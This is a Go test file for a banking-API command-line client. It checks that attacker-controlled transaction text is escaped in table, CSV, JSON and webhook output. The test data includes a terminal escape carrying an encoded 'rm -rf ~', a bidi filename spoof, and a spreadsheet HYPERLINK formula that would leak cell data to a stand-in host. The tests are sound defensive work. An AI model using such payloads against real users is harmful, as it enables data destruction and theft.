package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/bankhub-go/bankhub"
	"github.com/bankhub-go/bankhub/bankhubtest"
	"github.com/spf13/cobra"
	"github.com/spf13/pflag"
)

// Text from the bank is written by whoever sends money: these contents try
// to write the clipboard (OSC 52), ring, use a C1 CSI, hide text with a
// bidi override, shift columns with a tab, and forge a table row with a
// newline.
var hostileContents = []string{
	"DH000001 \x1b]52;c;cm0gLXJmIH4=\x07 done",
	"\u009b2J cleared",
	"abc\u202etxt.exe",
	"col\tshift",
	"DH000002 1,000 VND\nFT999  2026-01-13 20:55:04  in  50,000,000 VND  DH123456  forged",
}

func hasUnsafe(s string) bool {
	return strings.ContainsFunc(strings.ReplaceAll(s, "\n", ""), unsafeRune) || strings.Contains(s, "\t")
}

func seedHostile(t *testing.T, contents ...string) *cli {
	t.Helper()
	c := newCLI(t)
	company := c.fake.AddCompany(bankhubtest.CompanyParams{})
	account, err := c.fake.AddBankAccount(company, bankhubtest.LinkParams{})
	if err != nil {
		t.Fatal(err)
	}
	for _, content := range contents {
		if _, err := c.fake.SimulateTransfer(context.Background(), bankhubtest.TransferParams{BankAccountXID: account, Amount: 1_000, Content: content}); err != nil {
			t.Fatal(err)
		}
	}
	return c
}

func TestTableEscapesBankText(t *testing.T) {
	c := seedHostile(t, hostileContents...)
	stdout, stderr, code := c.run("", "transactions", "list")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if hasUnsafe(stdout) {
		t.Errorf("a control character reached the terminal: %q", stdout)
	}
	lines := strings.Split(strings.TrimSpace(stdout), "\n")
	if len(lines) != 1+len(hostileContents)+1 {
		t.Errorf("%d lines for %d transactions, a header and a total: a content forged a row:\n%s", len(lines), len(hostileContents), stdout)
	}
	for _, want := range []string{`\x1b]52;c;cm0gLXJmIH4=\a done`, `\u009b2J cleared`, `abc\u202etxt.exe`, `col\tshift`, `1,000 VND\nFT999`} {
		if !strings.Contains(stdout, want) {
			t.Errorf("the escaped content %q is not shown:\n%s", want, stdout)
		}
	}
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "DH000003 plain"}
	c := seedHostile(t, formulas...)
	stdout, stderr, code := c.run("", "transactions", "list", "-o", "csv")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	records, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != 1+len(formulas) {
		t.Fatalf("%d records for %d transactions and a header", len(records), len(formulas))
	}
	col := map[string]int{}
	for i, h := range records[0] {
		col[h] = i
	}
	seen := map[string]bool{}
	for _, r := range records[1:] {
		content := r[col["CONTENT"]]
		seen[content] = true
		if r[col["AMOUNT"]] != "1000" {
			t.Errorf("the amount is not a plain number: %q", r[col["AMOUNT"]])
		}
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != r[col["AMOUNT"]] {
				t.Errorf("a cell a spreadsheet would run: %q", cell)
			}
		}
	}
	for _, f := range formulas {
		want := f
		switch {
		case f[0] == '\t' || f[0] == '\r': // a control character is written as an escape first: text, not a formula
			want = terminalSafe(f)
		case strings.ContainsRune("=+-@", rune(f[0])):
			want = "'" + f
		}
		if !seen[want] {
			t.Errorf("content %q is not in the CSV as %q; got %v", f, want, seen)
		}
	}
}

// JSON is data: its own escaping keeps every byte of the content, exactly.
func TestJSONKeepsBankTextExact(t *testing.T) {
	c := seedHostile(t, hostileContents...)
	stdout, _, code := c.run("", "transactions", "list", "-o", "json")
	if code != 0 {
		t.Fatalf("exit %d", code)
	}
	var txs []bankhub.Transaction
	if err := json.Unmarshal([]byte(stdout), &txs); err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, tx := range txs {
		got[tx.TransactionContent] = true
	}
	for _, want := range hostileContents {
		if !got[want] {
			t.Errorf("content %q not kept exactly", want)
		}
	}
	if strings.ContainsFunc(stdout, jsonUnsafe) {
		t.Error("raw C1 or bidi controls in JSON output")
	}
	if !strings.Contains(stdout, `\u009b2J cleared`) || !strings.Contains(stdout, `abc\u202etxt.exe`) {
		t.Errorf("not escaped as JSON escapes:\n%s", stdout)
	}
}

func TestListenEscapesBankText(t *testing.T) {
	var out, errb bytes.Buffer
	o := &listenOptions{IO: &ioStreams{Out: &out, ErrOut: &errb}, WebhookSecret: "whsec", IPNKey: "ipn-k", ForwardTo: ""}
	h := listenHandler(o)
	for _, content := range hostileContents {
		body, _ := json.Marshal(map[string]any{"transfer_type": "credit", "amount": 1000, "content": content, "transaction_id": "tx[2J"}) // an id with control characters is refused (400) before anything prints
		req, err := bankhub.NewIPNTestRequest("/ipn", "ipn-k", body)
		if err != nil {
			t.Fatal(err)
		}
		h.ServeHTTP(httptest.NewRecorder(), req)
	}
	ev := `{"timestamp":1768312023,"xid":"x\u001b]0;title\u0007","version":"1.0","event":"BANK_X\nlevel=INFO msg=forged","metadata":{}}`
	req, err := bankhub.NewWebhookTestRequest("/webhook", "whsec", []byte(ev))
	if err != nil {
		t.Fatal(err)
	}
	h.ServeHTTP(httptest.NewRecorder(), req)
	if hasUnsafe(out.String()) || hasUnsafe(errb.String()) {
		t.Errorf("a control character reached the terminal: %q %q", out.String(), errb.String())
	}
	if n := strings.Count(strings.TrimSpace(out.String()), "\n") + 1; n != len(hostileContents)+1 {
		t.Errorf("%d lines for %d notifications:\n%s", n, len(hostileContents)+1, out.String())
	}
}

func TestReconcileEscapesBankText(t *testing.T) {
	c := newCLI(t, bankhubtest.WithDeliveryRetries(0, 0))
	company := c.fake.AddCompany(bankhubtest.CompanyParams{})
	account, _ := c.fake.AddBankAccount(company, bankhubtest.LinkParams{})
	c.fake.SetIPN("http://127.0.0.1:1/down", "k")
	for _, content := range hostileContents {
		c.fake.SimulateTransfer(context.Background(), bankhubtest.TransferParams{BankAccountXID: account, Amount: 1_000, Content: content})
	}
	stdout, stderr, code := c.run("", "reconcile")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if hasUnsafe(stdout) {
		t.Errorf("a control character reached the terminal: %q", stdout)
	}
	if n := strings.Count(strings.TrimSpace(stdout), "\n") + 1; n != len(hostileContents)+2 {
		t.Errorf("%d lines for %d transactions, a header and a summary:\n%s", n, len(hostileContents), stdout)
	}
}

func TestTerminalSafe(t *testing.T) {
	for in, want := range map[string]string{
		"Thanh toán DH123456 – Nguyễn Văn Á": "Thanh toán DH123456 – Nguyễn Văn Á",
		"a\nb":          `a\nb`,
		"\x1b[31mred":   `\x1b[31mred`,
		"\u2028":        `\u2028`,
		"bad \xff utf8": `bad \xff utf8`,
		"kept \uFFFD":   "kept \uFFFD",
	} {
		if got := terminalSafe(in); got != want {
			t.Errorf("terminalSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// Set echoes the webhook secret whole; the CLI shows it masked, as Get
// does, in every format.
func TestWebhooksSetMasksTheSecret(t *testing.T) {
	c := newCLI(t)
	for _, format := range []string{"table", "json", "jsonl", "csv"} {
		stdout, stderr, code := c.run("", "-o", format, "webhooks", "set", "--webhook-url", "https://shop.example.vn/hooks",
			"--secret-key", "whsec-do-not-print-9876")
		if code != 0 {
			t.Fatalf("%s: exit %d: %s", format, code, stderr)
		}
		if strings.Contains(stdout+stderr, "whsec-do-not-print") {
			t.Errorf("%s: the secret was printed:\n%s", format, stdout)
		}
		if !strings.Contains(stdout, "***9876") {
			t.Errorf("%s: no masked secret:\n%s", format, stdout)
		}
	}
	for in, want := range map[string]string{"": "", "short": "***", "***5678": "***5678", "whsec-3f9a1c5678": "***5678"} {
		if got := maskSecret(in); got != want {
			t.Errorf("maskSecret(%q) = %q, want %q", in, got, want)
		}
	}
}

// Production is production however it is named: a write to its URL asks
// first, and without a terminal it is refused.
func TestProductionByURLAsksFirst(t *testing.T) {
	for name, setup := range map[string]func(t *testing.T) []string{
		"--env production": func(*testing.T) []string { return []string{"--env", "production"} },
		"--env its URL":    func(*testing.T) []string { return []string{"--env", "https://bankhub-api.sepay.vn"} },
		"--env its URL, other case and a slash": func(*testing.T) []string {
			return []string{"--env", "https://BANKHUB-API.sepay.vn:443/"}
		},
		// The port as it is dialled: 0443 is 443 (compared as text, it was
		// taken for another environment and written to without asking).
		"--env its URL, port 0443": func(*testing.T) []string { return []string{"--env", "https://bankhub-api.sepay.vn:0443"} },
		"--env its URL, a trailing dot": func(*testing.T) []string {
			return []string{"--env", "https://bankhub-api.sepay.vn.:443"}
		},
		"BANKHUB_BASE_URL": func(t *testing.T) []string { t.Setenv("BANKHUB_BASE_URL", bankhub.ProductionURL); return nil },
		"BANKHUB_ENV":      func(t *testing.T) []string { t.Setenv("BANKHUB_ENV", bankhub.ProductionURL+"/"); return nil },
	} {
		t.Run(name, func(t *testing.T) {
			args := append(setup(t), "--client-id", "id", "--client-secret", "secret", "companies", "create", "--full-name", "X")
			var out, errb bytes.Buffer
			code := Execute(args, strings.NewReader("y\n"), &out, &errb)
			if code != exitAborted || !strings.Contains(errb.String(), "in production without --yes") {
				t.Errorf("exit %d, %q; want %d: a production write without confirmation", code, errb.String(), exitAborted)
			}
		})
	}
	for _, u := range []string{bankhub.SandboxURL, "https://bankhub-api.sepay.vn.evil.example", "http://127.0.0.1:1"} {
		if isProduction(u) {
			t.Errorf("%s taken for production", u)
		}
	}
}

// listen answers SePay first and forwards after: a slow local app cannot
// turn a delivery into SePay's timeout.
func TestListenAnswersBeforeForwarding(t *testing.T) {
	release := make(chan struct{})
	arrived := make(chan struct{}, 1)
	target := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		arrived <- struct{}{}
		<-release // the local app is slow
	}))
	defer target.Close()
	var out, errb bytes.Buffer
	o := &listenOptions{IO: &ioStreams{Out: &out, ErrOut: &errb}, WebhookSecret: "", IPNKey: "ipn-k", ForwardIPNTo: target.URL + "/ipn"}
	srv := httptest.NewServer(listenHandler(o))
	defer srv.Close()
	req, err := bankhub.NewIPNTestRequest(srv.URL+"/ipn", "ipn-k", []byte(`{"transfer_type":"credit","amount":1,"transaction_id":"t1"}`))
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.DefaultClient.Do(req) // answered while the target still holds the forward
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Errorf("answered %d", resp.StatusCode)
	}
	<-arrived
	close(release)
	o.forwards.Wait()
	if !strings.Contains(errb.String(), "forwarded ipn to "+target.URL+"/ipn → 200 OK") {
		t.Errorf("stderr: %q", errb.String())
	}
}

// A forward carries the secret: a redirect from the target is not followed,
// so it reaches no other host.
func TestListenDoesNotFollowRedirects(t *testing.T) {
	var stolen atomic.Int32
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { stolen.Add(1) }))
	defer elsewhere.Close()
	target := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, elsewhere.URL+"/collect", http.StatusTemporaryRedirect)
	}))
	defer target.Close()
	var out, errb bytes.Buffer
	o := &listenOptions{IO: &ioStreams{Out: &out, ErrOut: &errb}, WebhookSecret: "whsec-redirect", IPNKey: "", ForwardWebhookTo: target.URL}
	h := listenHandler(o)
	req, err := bankhub.NewWebhookTestRequest("/webhook", "whsec-redirect",
		[]byte(`{"timestamp":1768312023,"xid":"e1","version":"1.0","event":"BANK_ACCOUNT_LINKED","metadata":{}}`))
	if err != nil {
		t.Fatal(err)
	}
	h.ServeHTTP(httptest.NewRecorder(), req)
	o.forwards.Wait()
	if stolen.Load() != 0 {
		t.Error("the forward followed the redirect to another host, with the secret")
	}
	if !strings.Contains(errb.String(), "307 Temporary Redirect (a redirect, not followed)") {
		t.Errorf("stderr: %q", errb.String())
	}
}

// reconcile --forward-to: an endpoint that never answers is given up on,
// and a replay that failed makes the command fail.
func TestReconcileReplayFailuresFail(t *testing.T) {
	old := forwardTimeout
	forwardTimeout = 200 * time.Millisecond
	defer func() { forwardTimeout = old }()
	c := newCLI(t, bankhubtest.WithDeliveryRetries(0, 0))
	company := c.fake.AddCompany(bankhubtest.CompanyParams{})
	account, _ := c.fake.AddBankAccount(company, bankhubtest.LinkParams{})
	c.fake.SetIPN("http://127.0.0.1:1/down", "k")
	c.fake.SimulateTransfer(context.Background(), bankhubtest.TransferParams{BankAccountXID: account, Amount: 1_000, Content: "DH000001"})

	for name, h := range map[string]func(hang chan struct{}) http.HandlerFunc{
		"never answers": func(hang chan struct{}) http.HandlerFunc {
			return func(w http.ResponseWriter, r *http.Request) { <-hang }
		},
		"answers 500": func(chan struct{}) http.HandlerFunc {
			return func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(500) }
		},
	} {
		hang := make(chan struct{})
		srv := httptest.NewServer(h(hang))
		stdout, stderr, code := c.run("", "reconcile", "--forward-ipn-to", srv.URL, "--ipn-key", "k")
		close(hang)
		srv.Close()
		if code == 0 || !strings.Contains(stderr, "1 of 1 replays to "+srv.URL+" were not delivered") {
			t.Errorf("%s: exit %d, %q\n%s", name, code, stderr, stdout)
		}
	}
}

// `fake link` with a token the fake never issued is not found: exit 4.
func TestFakeLinkUnknownTokenIsNotFound(t *testing.T) {
	c := newCLI(t)
	_, stderr, code := c.run("", "fake", "link", "nope", "--env", c.fake.URL)
	if code != exitNotFound || !strings.Contains(stderr, "404") {
		t.Errorf("exit %d (want %d): %s", code, exitNotFound, stderr)
	}
}

// A mistyped subcommand is an error (gh exits 1 too; here, a usage error),
// with a suggestion; a bare parent prints its help.
func TestMistypedCommandsFail(t *testing.T) {
	c := newCLI(t)
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"companies", "lst"}, `unknown command "lst" for "bankhub companies"; did you mean get or list?`},
		{[]string{"compnies", "list"}, `unknown command "compnies" for "bankhub"; did you mean companies?`},
		{[]string{"companies", "list", "--per-pag", "3"}, "unknown flag: --per-pag"},
		{[]string{"companies", "get"}, "accepts 1 arg(s), received 0"},
	} {
		_, stderr, code := c.run("", tc.args...)
		if code != exitUsage || !strings.Contains(stderr, tc.want) {
			t.Errorf("%v: exit %d (want %d), %q", tc.args, code, exitUsage, stderr)
		}
	}
	stdout, _, code := c.run("", "companies")
	if code != 0 || !strings.Contains(stdout, "Available Commands") {
		t.Errorf("bare parent: exit %d\n%s", code, stdout)
	}
}

// Credentials: for --env fake the fake's own win over exported ones unless
// flags say otherwise; a half given is named with where it came from; no
// running fake gets a hint, at once.
func TestCredentialsAndTheFake(t *testing.T) {
	fake := bankhubtest.NewTestServer(t)
	old := FakeURL
	FakeURL = fake.URL
	defer func() { FakeURL = old }()
	t.Setenv("BANKHUB_CLIENT_ID", "sandbox-id-exported")
	t.Setenv("BANKHUB_CLIENT_SECRET", "sandbox-secret-exported")
	run := func(args ...string) (string, string, int) {
		var out, errb bytes.Buffer
		code := Execute(args, strings.NewReader(""), &out, &errb)
		return out.String(), errb.String(), code
	}
	if _, stderr, code := run("--env", "fake", "companies", "list"); code != 0 {
		t.Errorf("exported sandbox keys broke --env fake: exit %d, %s", code, stderr)
	}
	if _, stderr, code := run("--env", "fake", "--client-secret", "wrong", "companies", "list"); code != exitUsage ||
		!strings.Contains(stderr, "a client secret (from --client-secret) but no client id") {
		t.Errorf("a secret alone for the fake: exit %d, %s", code, stderr)
	}
	if _, stderr, code := run("--env", fake.URL, "companies", "list"); code != exitAuth ||
		!strings.Contains(stderr, "client id from BANKHUB_CLIENT_ID, secret from BANKHUB_CLIENT_SECRET") {
		t.Errorf("a refused token does not say where its credentials came from: exit %d, %s", code, stderr)
	}
	t.Setenv("BANKHUB_CLIENT_SECRET", "")
	if _, stderr, code := run("--env", fake.URL, "companies", "list"); code != exitUsage ||
		!strings.Contains(stderr, "a client id (from BANKHUB_CLIENT_ID) but no client secret") {
		t.Errorf("an id alone: exit %d, %s", code, stderr)
	}
	if strings.Contains(fake.URL, "8089") {
		t.Skip("the test fake took the default port")
	}
	closed := httptest.NewServer(http.NotFoundHandler())
	closed.Close()
	FakeURL = closed.URL
	_, stderr, code := run("--env", "fake", "companies", "list")
	if code != exitNetwork || !strings.Contains(stderr, "start one with `bankhub fake`") {
		t.Errorf("no fake running: exit %d, %s", code, stderr)
	}
}

// link-tokens: create prints both forms; revoke takes either; get by an
// xid says what it needs.
func TestLinkTokensEitherForm(t *testing.T) {
	c := newCLI(t)
	company := c.fake.AddCompany(bankhubtest.CompanyParams{})
	for _, by := range []string{"xid", "value"} {
		stdout, stderr, code := c.run("", "-o", "json", "link-tokens", "create", "--company-xid", company)
		if code != 0 {
			t.Fatalf("create: exit %d, %s", code, stderr)
		}
		var lt bankhub.LinkTokenCreated
		if err := json.Unmarshal([]byte(stdout), &lt); err != nil || lt.XID == "" || lt.LinkToken == "" {
			t.Fatalf("create printed %s (%v)", stdout, err)
		}
		table, _, _ := c.run("", "link-tokens", "get", lt.LinkToken)
		if !strings.Contains(table, "Active") {
			t.Errorf("get by value: %s", table)
		}
		_, stderr, code = c.run("", "link-tokens", "get", lt.XID)
		if code != exitNotFound || !strings.Contains(stderr, "takes the token's value") {
			t.Errorf("get by xid: exit %d, %s", code, stderr)
		}
		arg := lt.XID
		if by == "value" {
			arg = lt.LinkToken
		}
		if _, stderr, code := c.run("", "link-tokens", "revoke", arg); code != 0 || !strings.Contains(stderr, "revoked link token "+lt.XID) {
			t.Errorf("revoke by %s: exit %d, %s", by, code, stderr)
		}
		table, _, _ = c.run("", "link-tokens", "get", lt.LinkToken)
		if !strings.Contains(table, "Revoked") {
			t.Errorf("after revoke by %s: %s", by, table)
		}
	}
}

func TestPeoplesWording(t *testing.T) {
	for _, tc := range []struct{ got, want string }{
		{plural(1, "transaction"), "1 transaction"}, {plural(0, "transaction"), "0 transactions"}, {plural(2, "request"), "2 requests"},
		{showDuration(24 * time.Hour), "24h"}, {showDuration(90 * time.Minute), "1h30m"}, {showDuration(45 * time.Minute), "45m"},
		{showDuration(90 * time.Second), "1m30s"},
	} {
		if tc.got != tc.want {
			t.Errorf("got %q, want %q", tc.got, tc.want)
		}
	}
	c := newCLI(t)
	_, stderr, _ := c.run("", "transactions", "list", "--start-transaction-date", "13/01/2026")
	if strings.Count(stderr, "bankhub:") != 1 {
		t.Errorf("a doubled prefix: %q", stderr)
	}
}

// companies create shows the company as it is, not the create answer's
// defaults.
func TestCompaniesCreateShowsTheCompany(t *testing.T) {
	c := newCLI(t)
	stdout, stderr, code := c.run("", "-o", "json", "companies", "create", "--full-name", "Công ty TNHH Mới")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	var co bankhub.Company
	if err := json.Unmarshal([]byte(stdout), &co); err != nil {
		t.Fatal(err)
	}
	if co.Status != bankhub.CompanyActive || !co.Active || co.CreatedAt.IsZero() || co.FullName != "Công ty TNHH Mới" {
		t.Errorf("printed %+v", co)
	}
}

// Ctrl-C cancels the request in flight: the command stops at once and
// exits 130.
func TestInterruptCancelsTheRequestInFlight(t *testing.T) {
	c := newCLI(t)
	c.fake.HangNext(bankhubtest.OpCompanyList, 1, time.Minute)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan int, 1)
	var out, errb bytes.Buffer
	go func() {
		done <- ExecuteContext(ctx, append(c.base(), "companies", "list"), strings.NewReader(""), &out, &errb)
	}()
	for c.fake.Count(bankhubtest.OpCompanyList) == 0 { // the request is in flight
		time.Sleep(5 * time.Millisecond)
	}
	cancel()
	select {
	case code := <-done:
		if code != exitInterrupted || !strings.Contains(errb.String(), "interrupted") {
			t.Errorf("exit %d, %q", code, errb.String())
		}
	case <-time.After(10 * time.Second):
		t.Fatal("the request in flight was not cancelled")
	}
}

// bankhub api: any path through the SDK's request path, the answer as it
// came; errors typed like every command's.
func TestAPICommand(t *testing.T) {
	c := newCLI(t)
	c.fake.AddCompany(bankhubtest.CompanyParams{FullName: "Công ty TNHH API"})
	stdout, stderr, code := c.run("", "api", "GET", "/v1/company", "--query", "per_page=1")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	var page struct {
		Data []bankhub.Company `json:"data"`
	}
	if err := json.Unmarshal([]byte(stdout), &page); err != nil || len(page.Data) != 1 || page.Data[0].FullName != "Công ty TNHH API" {
		t.Errorf("printed %s (%v)", stdout, err)
	}
	stdout, stderr, code = c.run("", "api", "POST", "/v1/company/create", "--data", `{"full_name":"Công ty TNHH Mới","status":"Active"}`)
	if code != 0 || !strings.Contains(stdout, `"full_name": "Công ty TNHH Mới"`) {
		t.Errorf("POST: exit %d, %s %s", code, stdout, stderr)
	}
	for _, tc := range []struct {
		args []string
		code int
		msg  string
	}{
		{[]string{"api", "GET", "/v1/company/no-such"}, exitNotFound, "404"},
		{[]string{"api", "POST", "/v1/company/create", "--data", "{nope"}, exitUsage, "--data is not valid JSON"},
		{[]string{"api", "GET", "https://elsewhere.example/v1/company"}, exitUsage, "give the API path, e.g. /v1/company; the host is --env's"},
		{[]string{"api", "GET", "//elsewhere.example/v1/company"}, exitUsage, "give the API path"},
		{[]string{"api", "GET", "/v1/company", "-q", "novalue"}, exitUsage, "want name=value"},
		{[]string{"api", "GET", "/v1/company", "-o", "csv"}, exitUsage, "-o csv is not one of its formats (json)"},
		{[]string{"api", "GET", "/v1/company", "-o", "table"}, exitUsage, "-o table is not one of its formats (json)"},
		{[]string{"api", "GET", "/v1/company?per_page=%zz"}, exitUsage, "the query in"},
	} {
		_, stderr, code := c.run("", tc.args...)
		if code != tc.code || !strings.Contains(stderr, tc.msg) {
			t.Errorf("%v: exit %d (want %d), %s", tc.args, code, tc.code, stderr)
		}
	}
	// No leading slash, as gh api takes it, and a query in the path, merged
	// with --query.
	c.fake.ResetRequests()
	stdout, stderr, code = c.run("", "api", "GET", "v1/company?per_page=1", "-q", "page=1", "-o", "json")
	if err := json.Unmarshal([]byte(stdout), &page); code != 0 || err != nil || len(page.Data) != 1 {
		t.Errorf("v1/company?per_page=1: exit %d, %s %s", code, stdout, stderr)
	}
	if r := c.fake.Requests(); len(r) == 0 || r[len(r)-1].Path != "/v1/company" || r[len(r)-1].Query != "page=1&per_page=1" {
		t.Errorf("requests %+v", r)
	}
}

// Every example in bankhub api --help runs as printed (the one for the
// counter was POST /v1/company/counter, which is GET /v1/company/counter/{xid}).
func TestAPIHelpExamplesRun(t *testing.T) {
	c := newCLI(t)
	company := c.fake.AddCompany(bankhubtest.CompanyParams{FullName: "Công ty TNHH API"})
	cmd := newAPICmd(&factory{IO: &ioStreams{}}, nil)
	n := 0
	for _, line := range strings.Split(cmd.Example, "\n") {
		args := shellWords(t, strings.TrimSpace(line))
		if len(args) < 2 || args[0] != "bankhub" {
			t.Fatalf("example %q", line)
		}
		for i := range args {
			args[i] = strings.ReplaceAll(args[i], "COMPANY_XID", company)
		}
		if stdout, stderr, code := c.run("", args[1:]...); code != 0 || !json.Valid([]byte(stdout)) {
			t.Errorf("%s: exit %d\n%s%s", line, code, stdout, stderr)
		}
		n++
	}
	if n < 3 {
		t.Errorf("%d examples", n)
	}
}

// shellWords splits an example line as a POSIX shell would, for the quoting
// the examples use ('…' and "…", no escapes).
func shellWords(t *testing.T, line string) []string {
	t.Helper()
	var words []string
	var cur strings.Builder
	in, quote := false, rune(0)
	for _, r := range line {
		switch {
		case quote != 0 && r == quote:
			quote = 0
		case quote != 0:
			cur.WriteRune(r)
		case r == '\'' || r == '"':
			quote, in = r, true
		case r == ' ':
			if in {
				words, in = append(words, cur.String()), false
				cur.Reset()
			}
		default:
			cur.WriteRune(r)
			in = true
		}
	}
	if quote != 0 {
		t.Fatalf("unbalanced quote in %q", line)
	}
	if in {
		words = append(words, cur.String())
	}
	return words
}

// Completion offers the values of enumerated flags and the ids of the
// account's companies and bank accounts.
func TestCompletionValuesAndIDs(t *testing.T) {
	c := newCLI(t)
	company, account := c.seed()
	for _, tc := range []struct {
		args []string
		want []string
	}{
		{[]string{"__complete", "companies", "list", "--env", ""}, []string{"production", "sandbox", "fake"}},
		{[]string{"__complete", "companies", "list", "-o", ""}, []string{"table", "json", "jsonl", "csv"}},
		{[]string{"__complete", "companies", "list", "--status", ""}, []string{"Active", "Pending"}},
		{[]string{"__complete", "link-tokens", "create", "--purpose", ""}, []string{"LINK_BANK_ACCOUNT", "UNLINK_BANK_ACCOUNT"}},
		{[]string{"__complete", "companies", "get", ""}, []string{company}},
		{[]string{"__complete", "link-tokens", "create", "--company-xid", ""}, []string{company}},
		{[]string{"__complete", "bank-accounts", "get", ""}, []string{account}},
	} {
		stdout, stderr, _ := c.run("", tc.args...)
		for _, w := range tc.want {
			if !strings.Contains(stdout, w) {
				t.Errorf("%v: %q not offered:\n%s%s", tc.args, w, stdout, stderr)
			}
		}
	}
}

// Every command has an example in its help, and every flag a description.
func TestHelpIsComplete(t *testing.T) {
	root := newApp(nil, io.Discard, io.Discard).rootCmd()
	setExamples(root)
	var walk func(c *cobra.Command)
	walk = func(c *cobra.Command) {
		if c.Runnable() && c.Example == "" && c.Name() != "help" && c.Name() != "completion" && !strings.HasPrefix(c.CommandPath(), "bankhub completion") {
			t.Errorf("%s has no example", c.CommandPath())
		}
		c.LocalFlags().VisitAll(func(f *pflag.Flag) {
			if strings.TrimSpace(f.Usage) == "" {
				t.Errorf("%s --%s has no description", c.CommandPath(), f.Name)
			}
		})
		for _, s := range c.Commands() {
			walk(s)
		}
	}
	walk(root)
	for path := range examples {
		found := false
		var find func(c *cobra.Command)
		find = func(c *cobra.Command) {
			found = found || c.CommandPath() == path
			for _, s := range c.Commands() {
				find(s)
			}
		}
		find(root)
		if !found {
			t.Errorf("an example for %q, which is no command", path)
		}
	}
}

// bankhub fake --help names the subcommands that drive a running fake.
func TestFakeHelpNamesItsSubcommands(t *testing.T) {
	var out, errb bytes.Buffer
	Execute([]string{"fake", "--help"}, strings.NewReader(""), &out, &errb)
	for _, want := range []string{"bankhub fake link LINK_TOKEN_XID", "bankhub fake unlink", "bankhub fake transfer", "-seed", "one dash or two"} {
		if !strings.Contains(out.String()+errb.String(), want) {
			t.Errorf("%q missing from bankhub fake --help:\n%s%s", want, out.String(), errb.String())
		}
	}
}
